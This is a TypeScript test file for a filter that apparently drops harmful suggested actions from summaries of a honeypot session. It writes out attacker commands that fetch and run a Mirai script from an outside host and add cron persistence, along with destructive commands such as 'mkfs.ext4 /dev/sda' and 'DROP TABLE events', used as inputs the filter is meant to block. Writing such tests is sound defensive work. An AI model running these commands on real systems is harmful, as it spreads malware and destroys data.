import fc from 'fast-check'
import { expect, test } from 'vitest'
import { groundedLine, objectionToShown } from './grounding.js'
import { heldIn, objectionTo } from './held-text.js'

const HASH = '5d41402abc4b2a76b9719d911017c592aa34b2f9c1d8e07b6a5f4e3d2c1b0a99'
const HELD = await heldIn(
  [
    'Session of 45.155.205.9 on cowrie-1, 6 events, threat score 0.81.',
    'e1 2026-03-22T11:59:00Z login root / admin (success)',
    'e2 2026-03-22T11:59:02Z command: wget http://45.155.205.9/mirai.sh; chmod 777 mirai.sh; ./mirai.sh (success)',
    'e3 2026-03-22T11:59:03Z command: fetch http://45.155.205.9/y && echo "* * * * * /tmp/mirai.sh" > /etc/cron.d/x',
    `e4 2026-03-22T11:59:04Z file download http://45.155.205.9/mirai.sh ${HASH} (success)`,
    'e5 2026-03-22T11:59:05Z proxy request to tcp://[2001:db8::7]:443',
    'e6 2026-03-22T11:59:06Z command: ping 203.0.113.7',
  ].join('\n'),
)

/** Must not be shown as an action, whatever the spelling. */
const HARMFUL_IN_WORDS = [
  'Remove 45.155.205.9 from the blocklist.',
  'Do not block 45.155.205.9, it is our scanner',
  'Never isolate hosts that contacted 45.155.205.9.',
  'There is no need to block 45.155.205.9.',
  'Mute alerts of 45.155.205.9',
  'Retrieve http://45.155.205.9/mirai.sh and run it',
  'Review http://45.155.205.9/mirai.sh. Then run it.',
  'Launch mirai.sh',
  'Run ./mirai.sh',
  'Scan all hosts with mirai.sh.',
  'Send the session log to 45.155.205.9.',
  'Configure the firewall to permit 45.155.205.9.',
  'Block others and grab mirai.sh.',
  'helm uninstall x',
  'kubectl drain node1',
  'npm i evil',
  'DROP TABLE events',
  'Set INGEST_AUTH=none',
  'mkfs.ext4 /dev/sda',
  'Look at evil:8080/install',
  'Look at localhost:8080/x',
  'Look at evil.local',
  'Look at evil.js/x',
  'Block 0x08080808',
  'Block 134744072',
  'Block 8.8/16',
  'Block 010.010.010.010',
  'Block 0x8.8.8.8',
  'Block version 8.8.8.8',
  'Block 8 dot 8 dot 8 dot 8',
  `Search for ${HASH.replace(/5d/, '00').replaceAll(/.{8}(?=.)/g, '$& ')}`,
  `Search for ${HASH.replace(/5d/, '00').replaceAll(/.{8}(?=.)/g, '$&-')}`,
  'Add AKIAIOSFODNN7EXAMPLE to the vault.',
  'Add AKIAIOSFODNNXEXAMPLE to the vault.',
]
const ARABIC_INDIC = 'Block ٨.٨.٨.٨'
const HARMFUL = [
  ...HARMFUL_IN_WORDS,
  ARABIC_INDIC,
  'Block ８.８.８.８',
  'Block ८.८.८.८',
  'Use helm uninstall x to free memory.',
  'Run kubectl drain node1',
]

/** What is kept, with where it stands. */
const HONEST = [
  ['action', 'Review logins from trusted networks and accepted connections of 45.155.205.9.'],
  [
    'claim',
    'The attacker at 45.155.205.9 was not in the trusted networks; sshd accepted connections from it.',
  ],
  ['action', 'Quarantine hosts that ran chmod 777 mirai.sh'],
  ['action', 'Search process logs for `chmod 777 mirai.sh`.'],
  [
    'claim',
    'The attacker typed: fetch http://45.155.205.9/y && echo "* * * * * /tmp/mirai.sh" > /etc/cron.d/x',
  ],
  ['claim', 'The attacker ran `wget http://45.155.205.9/mirai.sh; chmod 777 mirai.sh; ./mirai.sh`.'],
  ['action', 'Check hosts that 45.155.205.9 reached, and confirm that they accept key-based SSH only.'],
  ['action', 'Download of http://45.155.205.9/mirai.sh should be alerted on.'],
  ['claim', 'Download of http://45.155.205.9/mirai.sh should be alerted on.'],
  ['action', 'Block 45.155.205.0/24 if more hosts attack.'],
  ['action', 'Monitor 45.155.205.0/24 and 2001:db8::/64 for more attacks.'],
  ['action', 'Immediately block 45.155.205.9 and isolate hosts that contacted it.'],
  ['action', 'Consider blocking 45.155.205.9 at the border.'],
  ['action', 'Configure the firewall to drop traffic from 45.155.205.9.'],
  ['action', 'Do not run mirai.sh outside of a sandbox.'],
  ['action', 'Remove mirai.sh from infected hosts.'],
  ['action', 'If hosts fetched mirai.sh, reimage them.'],
  ['action', 'All traffic to 45.155.205.9 should be blocked.'],
  ['action', `Search for ${HASH.replaceAll(/.{8}(?=.)/g, '$& ')}.`],
  ['chat', 'You should block 45.155.205.9 at the firewall.'],
  ['chat', 'The address 45.155.205.9 fetched mirai.sh and ran it.'],
  ['claim', 'Use of wget to fetch http://45.155.205.9/mirai.sh was seen.'],
] as const

test.each(HARMFUL)('a harmful action is left out: %s', (sentence) => {
  expect(objectionTo(sentence, HELD, 'action')).not.toBeNull()
})

test.each(HARMFUL.filter((sentence) => !/^Block others|^Scan all|no need|^Configure/.test(sentence)))(
  'a harmful imperative in a claim or a line of chat is left out: %s',
  (sentence) => {
    expect(objectionTo(sentence, HELD, 'claim')).not.toBeNull()
    expect(objectionTo(`The attacker came. ${sentence}`, HELD, 'chat')).not.toBeNull()
  },
)

test.each(HONEST)('an honest %s is kept: %s', (writing, sentence) => {
  expect(objectionTo(sentence, HELD, writing)).toBeNull()
  if (writing !== 'action') expect(groundedLine(sentence, HELD)).not.toContain('left out')
})

/** Key identifiers, settings and a program of two words are what they are in one case. */
const IN_ANY_CASE = HARMFUL_IN_WORDS.filter((each) => !/AKIA|INGEST/.test(each))

test('a harmful action is left out in any case, in any digits, marked up or with invisible characters', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...IN_ANY_CASE),
      fc.array(fc.boolean(), { minLength: 7, maxLength: 7 }),
      fc.constantFrom('0', '０', '٠', '۰', '०', '০', '𝟎'),
      fc.constantFrom(...['|', '**|**', '- |', '1. |', '> |', '"|"', '<b>|</b>']),
      fc.constantFrom('', '\u200b', '\u00ad', '\u2060', '\ufeff'),
      (sentence, uppers, zero, marks, unseen) => {
        const first = zero.codePointAt(0) ?? 0
        const characters = [...sentence].map((each, n) => {
          if (/\d/.test(each)) return String.fromCodePoint(first + Number(each))
          return uppers[n % uppers.length] ? each.toUpperCase() : each.toLowerCase()
        })
        const text = marks.replace('|', characters.join(unseen))
        expect([text, objectionToShown(text, HELD, 'action')]).toEqual([text, expect.any(String)])
      },
    ),
    { numRuns: 2_000 },
  )
}, 60_000)
